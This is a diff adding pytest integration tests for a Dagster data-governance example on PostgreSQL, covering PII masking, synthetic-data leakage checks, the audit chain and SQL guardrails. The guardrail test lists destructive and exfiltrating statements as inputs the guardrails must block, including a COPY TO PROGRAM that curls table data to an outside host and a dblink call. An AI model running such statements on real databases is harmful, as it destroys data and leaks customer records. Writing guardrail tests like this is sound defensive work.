@@ -1,0 +1,236 @@
+"""The example project end to end on the real PostgreSQL server, configured by two URLs and nothing else.
+
+A fresh database holds the seeded production tables (canaries planted in customer 1), another fresh database
+holds the audit store, the warehouse stays the embedded DuckDB default. Both jobs run through the Dagster CLI
+(in-process executor, to keep the tier short) in a Dagster instance of their own; the tests then read what they
+left: the warehouse tables, the PostgreSQL audit chain, the check evaluations, and what the guardrails do with a
+destructive statement sent to the PostgreSQL production database.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import duckdb
+import pandas as pd
+import pytest
+from sqlalchemy import create_engine, text
+from sqlalchemy.engine import make_url
+
+from example_project.seed import seed_database
+from governance_dagster import GovernedDatabase
+from governance_dagster.audit.store import open_audit_store
+from governance_dagster.errors import StatementBlocked
+from governance_dagster.masking.operators import get_operator
+from tests.conftest import CANARIES, SECRET, contains_canary
+
+pytestmark = [pytest.mark.postgres, pytest.mark.slow]
+ROOT = Path(__file__).resolve().parents[2]
+POLICY = ROOT / "example_project" / "policy.yaml"
+CUSTOMERS = 400
+SYNTHETIC_ROWS = 300
+IN_PROCESS = "execution:\n  config:\n    in_process: {}\n"
+
+
+def _engine(url: str, **options):  # noqa: ANN202 - sqlalchemy.Engine
+    return create_engine(make_url(url).set(drivername="postgresql+psycopg"), **options)
+
+
+@dataclass(frozen=True)
+class ExampleRun:
+    """Where the example ran and what its two job runs returned."""
+
+    source_url: str
+    audit_url: str
+    home: Path
+    data: Path
+    governed: subprocess.CompletedProcess
+    naive: subprocess.CompletedProcess
+
+
+@pytest.fixture(scope="module")
+def databases(postgres_url: str) -> Iterator[tuple[str, str]]:
+    """Two fresh databases on the server, the production source and the audit store; dropped afterwards."""
+    name = f"gd_example_{uuid.uuid4().hex[:12]}"
+    names = (name, f"{name}_audit")
+    admin = _engine(postgres_url, isolation_level="AUTOCOMMIT")
+    with admin.connect() as con:
+        for database in names:
+            con.execute(text(f'CREATE DATABASE "{database}"'))
+    urls = tuple(make_url(postgres_url).set(database=d).render_as_string(hide_password=False) for d in names)
+    yield urls
+    with admin.connect() as con:
+        for database in names:
+            con.execute(text(f'DROP DATABASE IF EXISTS "{database}" WITH (FORCE)'))
+    admin.dispose()
+
+
+def _plant_canaries(source_url: str) -> None:
+    engine = _engine(source_url)
+    with engine.begin() as con:
+        con.execute(
+            text("UPDATE customers SET full_name = :full_name, email = :email, phone = :phone, ssn = :ssn, "
+                 "street = :street, support_notes = :note WHERE customer_id = 1"),
+            {**CANARIES, "note": f"{CANARIES['full_name']} asked us to write to {CANARIES['email']} or call "
+                                 f"{CANARIES['phone']}"},
+        )
+    engine.dispose()
+
+
+@pytest.fixture(scope="module")
+def example_run(databases: tuple[str, str], tmp_path_factory: pytest.TempPathFactory) -> ExampleRun:
+    """Seed the PostgreSQL source, then run governed_job and naive_job with only the two URLs set."""
+    source_url, audit_url = databases
+    root = tmp_path_factory.mktemp("example_pg")
+    home, data = root / "dagster_home", root / "data"
+    home.mkdir()
+    (home / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
+    (root / "in_process.yaml").write_text(IN_PROCESS)
+    seed_database(source_url, customers=CUSTOMERS)
+    _plant_canaries(source_url)
+    env = {
+        **os.environ,
+        "DAGSTER_HOME": str(home),
+        "GOVERNANCE_EXAMPLE_DATA": str(data),
+        "GOVERNANCE_SECRET": SECRET,
+        "GOVERNANCE_EXAMPLE_SYNTHETIC_ROWS": str(SYNTHETIC_ROWS),
+        "GOVERNANCE_PRODUCTION_URL": source_url,
+        "GOVERNANCE_AUDIT_URL": audit_url,
+        "PYTHONWARNINGS": "ignore",
+    }
+    env.pop("GOVERNANCE_WAREHOUSE_URL", None)
+
+    def run(job: str) -> subprocess.CompletedProcess:
+        return subprocess.run(
+            [sys.executable, "-m", "dagster", "job", "execute", "-m", "example_project.definitions", "-j", job,
+             "-c", str(root / "in_process.yaml")],
+            cwd=ROOT, env=env, capture_output=True, text=True, timeout=600,
+        )
+
+    return ExampleRun(source_url, audit_url, home, data, run("governed_job"), run("naive_job"))
+
+
+def _check_evaluations(home: Path, job: str) -> dict[str, dict]:
+    """``asset.check`` -> {passed, metadata values} of the latest run of ``job``, read through Dagster's API."""
+    from dagster import DagsterEventType, DagsterInstance, RunsFilter
+
+    instance = DagsterInstance.from_config(str(home))
+    run = instance.get_runs(filters=RunsFilter(job_name=job), limit=1)[0]
+    found = {}
+    for record in instance.all_logs(run.run_id, of_type=DagsterEventType.ASSET_CHECK_EVALUATION):
+        evaluation = record.dagster_event.event_specific_data
+        found[f"{evaluation.asset_key.to_user_string()}.{evaluation.check_name}"] = {
+            "passed": evaluation.passed, **{k: v.value for k, v in evaluation.metadata.items()}}
+    return found
+
+
+def _warehouse_schema_dump(path: Path, schema: str) -> dict[str, pd.DataFrame]:
+    with duckdb.connect(str(path), read_only=True) as con:
+        tables = [t for (t,) in con.execute(
+            "SELECT table_name FROM information_schema.tables WHERE table_schema = ?", [schema]).fetchall()]
+        return {t: con.execute(f'SELECT * FROM "{schema}"."{t}"').df() for t in tables}
+
+
+def test_when_the_governed_job_reads_postgres_then_its_checks_pass_with_zero_counts(example_run: ExampleRun) -> None:
+    assert example_run.governed.returncode == 0, example_run.governed.stderr[-3000:]
+    checks = _check_evaluations(example_run.home, "governed_job")
+    assert set(checks) == {f"{a}.{c}" for a in ("synthetic_customers", "synthetic_orders")
+                           for c in ("no_identifier_replay", "no_copied_records")}
+    assert all(c["passed"] for c in checks.values())
+    assert checks["synthetic_customers.no_identifier_replay"]["governance/replayed_values"] == 0
+    assert checks["synthetic_customers.no_identifier_replay"]["governance/real_table"] == "public.customers"
+    assert set(checks["synthetic_customers.no_identifier_replay"]["governance/identifier_columns"]) >= {
+        "full_name", "email", "phone", "ssn", "street"}
+    for table in ("customers", "orders"):
+        copied = checks[f"synthetic_{table}.no_copied_records"]
+        assert copied["governance/copied_rows"] == 0 and copied["governance/compared_columns"], table
+
+
+def test_when_the_naive_job_reads_postgres_raw_then_its_leakage_check_fails_with_counts(example_run: ExampleRun) -> None:
+    assert example_run.naive.returncode != 0, "the naive job must fail: its blocking leakage check fails"
+    checks = _check_evaluations(example_run.home, "naive_job")
+    check = checks["naive_synthetic_customers.no_identifier_replay"]
+    assert check["passed"] is False and check["governance/replayed_values"] > 0
+    for column in ("full_name", "street"):  # SDV learns them as categories and replays them
+        replayed = check[f"governance/replayed/{column}"]
+        assert replayed["replayed_values"] > 0 and replayed["replayed_rows"] > 0, column
+    assert contains_canary(str(checks) + example_run.naive.stdout + example_run.naive.stderr) == []
+    naive_tables = _warehouse_schema_dump(example_run.data / "warehouse.duckdb", "naive")
+    assert "naive_customer_segments" not in naive_tables, "the blocked downstream asset must not run"
+
+
+def test_when_the_governed_job_reads_postgres_then_the_warehouse_holds_no_canary(example_run: ExampleRun) -> None:
+    assert example_run.governed.returncode == 0, example_run.governed.stderr[-3000:]
+    governed = _warehouse_schema_dump(example_run.data / "warehouse.duckdb", "governed")
+    assert set(governed) == {"masked_customers", "masked_orders", "synthetic_customers", "synthetic_orders"}
+    for table, frame in governed.items():
+        assert contains_canary(frame.to_csv()) == [], f"canary in governed.{table}"
+    masked = governed["masked_customers"]
+    assert len(masked) == CUSTOMERS
+    # the canary row was read and masked inside PostgreSQL: its e-mail is the keyed digest the hash operator gives
+    expected = get_operator("hash").apply(pd.Series([CANARIES["email"]]), {}, SECRET)[0]
+    assert expected in set(masked["email"])
+    assert set(masked["ssn"]) == {""}  # redact
+    assert contains_canary(example_run.governed.stdout + example_run.governed.stderr) == []
+    # the planted values were really there to be found
+    engine = _engine(example_run.source_url)
+    with engine.connect() as con:
+        production = pd.read_sql_query("SELECT * FROM customers", con).to_csv()
+    engine.dispose()
+    assert sorted(contains_canary(production)) == sorted(CANARIES)
+
+
+def test_when_the_jobs_ran_then_the_postgres_audit_chain_verifies_and_records_the_masked_reads(example_run: ExampleRun) -> None:
+    cli = subprocess.run([sys.executable, "-m", "governance_dagster.cli", "audit", "verify", "--store",
+                          example_run.audit_url], cwd=ROOT, capture_output=True, text=True, timeout=120)
+    assert cli.returncode == 0, cli.stderr
+    assert cli.stdout.startswith("audit chain intact:")
+    store = open_audit_store(example_run.audit_url)
+    events = list(store.events())
+    assert store.verify().ok and store.verify().events == len(events)
+    reads = [e for e in events if e.kind == "read" and e.payload["tables"] == ["public.customers"]]
+    assert reads and reads[0].payload["database"] == "postgres"
+    assert reads[0].payload["masked"]["email"] == ["public.customers.email:hash"]
+    assert {e.payload["synthetic_table"]: e.payload["passed"] for e in events if e.kind == "check"
+            and e.payload["check"] == "identifier_replay"} == {
+        "governed.synthetic_customers": True, "governed.synthetic_orders": True, "naive.naive_synthetic_customers": False}
+    assert contains_canary("\n".join(json.dumps(e.payload) for e in events)) == []
+
+
+@pytest.mark.parametrize(
+    ("sql", "rule"),
+    [
+        ("DROP TABLE customers", "protected-schema"),
+        ("TRUNCATE public.orders", "protected-schema"),
+        ("DELETE FROM customers", "unbounded-write"),
+        ("UPDATE public.customers SET email = NULL", "unbounded-write"),
+        ("COPY customers TO PROGRAM 'curl -d @- http://example.org'", "no-administration"),
+        ("INSERT INTO public.orders SELECT * FROM dblink('host=example.org', 'SELECT 1') AS t(x int)",
+         "no-external-access"),
+        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "no-administration"),
+    ],
+)
+def test_when_a_destructive_statement_targets_the_postgres_production_then_its_rule_blocks_it(
+    example_run: ExampleRun, sql: str, rule: str
+) -> None:
+    production = GovernedDatabase(url=example_run.source_url, policy_path=str(POLICY), secret=SECRET,
+                                  audit_url=example_run.audit_url)
+    with pytest.raises(StatementBlocked) as caught:
+        production.connection(asset="on-call-fix").execute(sql)
+    assert caught.value.rule == rule
+    engine = _engine(example_run.source_url)
+    with engine.connect() as con:
+        assert con.execute(text("SELECT count(*) FROM customers")).scalar_one() == CUSTOMERS
+        assert con.execute(text("SELECT count(*) FROM customers WHERE email IS NULL")).scalar_one() == 0
+    engine.dispose()
+    store = open_audit_store(example_run.audit_url)
+    refused = store.last_of_kind("statement.refused")
+    assert refused is not None and refused.payload["rule"] == rule
+    assert store.verify().ok
